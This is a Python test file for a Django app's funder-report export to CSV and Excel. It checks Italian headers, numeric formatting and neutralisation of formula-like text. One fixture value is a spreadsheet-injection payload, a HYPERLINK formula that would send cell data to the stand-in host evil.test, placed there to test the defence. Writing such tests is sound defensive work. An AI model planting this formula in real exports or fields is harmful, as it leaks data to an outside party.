"""The funder report as a spreadsheet, opened the way staff and their programs open it: the CSV with Python's csv
module (";" and a UTF-8 BOM, for Italian Excel), the workbook with openpyxl. Italian readable headers, numbers as
numbers (decimals with a comma in the CSV), text typed by people never a formula."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from core.spreadsheets import FORMULA_STARTS
from registrations import reports
from registrations.models import OrganizationType
from tests.factories import LabFactory, MeetingFactory, ProjectFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

HEADER = [
    "Progetto",
    "Raggruppamento",
    "Voce",
    "Iscrizioni confermate",
    "Presenze",
    "Ore di presenza",
    "Presenze senza durata",
]


def _when(day: int, hour: int, minute: int = 0) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime(2026, 3, day, hour, minute))


@pytest.fixture
def project():
    project = ProjectFactory(title="=FAMI Inclusione", slug="fami-inclusione")
    lab = LabFactory(title="Lab Accoglienza", project=project)
    first = MeetingFactory(lab=lab, title="-Primo", starts_at=_when(10, 9, 30), ends_at=_when(10, 13))
    second = MeetingFactory(lab=lab, title="Secondo", starts_at=_when(17, 14), ends_at=None)
    RegistrationFactory(meeting=first, organization='=HYPERLINK("http://evil.test/?d="&C2,"Apri")', attended=True)
    RegistrationFactory(
        meeting=first, organization="Provincia di Lecco", organization_type=OrganizationType.PROVINCIA, attended=True
    )
    RegistrationFactory(meeting=second, organization="Comune di Bergamo", attended=True)
    return project


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8 ("Città")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_project_report_csv(secretary_client, project):
    url = reverse("admin:projects_project_funder_report", args=[project.pk])
    assert 'href="?format=csv"' in secretary_client.get(url).content.decode()
    response = secretary_client.get(url, {"format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="rapporto-fami-inclusione.csv"'
    assert _csv(response) == [
        HEADER,
        ["'=FAMI Inclusione", "Tipo di ente", "Comune", "2", "2", "3,50", "1"],
        ["'=FAMI Inclusione", "Tipo di ente", "Provincia / Città metropolitana", "1", "1", "3,50", "0"],
        ["'=FAMI Inclusione", "Provincia", "Bergamo", "1", "1", "0,00", "1"],
        ["'=FAMI Inclusione", "Provincia", "Lecco", "1", "1", "3,50", "0"],
        ["'=FAMI Inclusione", "Provincia", "Non determinata", "1", "1", "3,50", "0"],
        ["'=FAMI Inclusione", "Partecipazione", "in presenza", "3", "3", "7,00", "1"],
        ["'=FAMI Inclusione", "Incontro", "Lab Accoglienza – -Primo (10/03/2026 09:30)", "2", "2", "7,00", "0"],
        [
            "'=FAMI Inclusione",
            "Incontro",
            "Lab Accoglienza – Secondo (17/03/2026 14:00)",
            "1",
            "1",
            "non disponibile",
            "1",
        ],
    ]


def test_every_text_cell_starting_like_a_formula_is_neutralised():
    lab = LabFactory(title="@SUM(1+1)", slug="lab-formula")
    RegistrationFactory(meeting=MeetingFactory(lab=lab, title="+Incontro"), attended=True)
    rows = list(csv.reader(io.StringIO(reports.lab_report_csv(lab).lstrip("\ufeff")), delimiter=";"))
    assert rows[0][0] == "Laboratorio"
    assert [row[0] for row in rows[1:]] == ["'@SUM(1+1)"] * (len(rows) - 1)
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_the_project_workbook_has_numbers_as_numbers_and_no_formula(secretary_client, project, monkeypatch):
    # The average comes from the surveys app through this hook (registrations/reports.py); its figure is given here.
    monkeypatch.setattr(reports, "satisfaction_source", lambda registrations: Decimal("4.25"))
    url = reverse("admin:projects_project_funder_report", args=[project.pk])
    book = openpyxl.load_workbook(io.BytesIO(secretary_client.get(url, {"format": "xlsx"}).content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}  # never "f" (a formula)
    summary = {row[0].value: row[1] for row in book["Sintesi"].iter_rows(min_row=2)}
    subject = summary["Oggetto del rapporto"]
    assert (subject.value, subject.data_type, subject.quotePrefix) == ("=FAMI Inclusione", "s", True)  # text as typed
    assert (summary["Ore di presenza"].value, summary["Ore di presenza"].data_type) == (7, "n")
    satisfaction = summary["Soddisfazione media dei partecipanti"]
    assert (satisfaction.value, satisfaction.data_type) == (4.25, "n")  # a number, not the text "4,25"
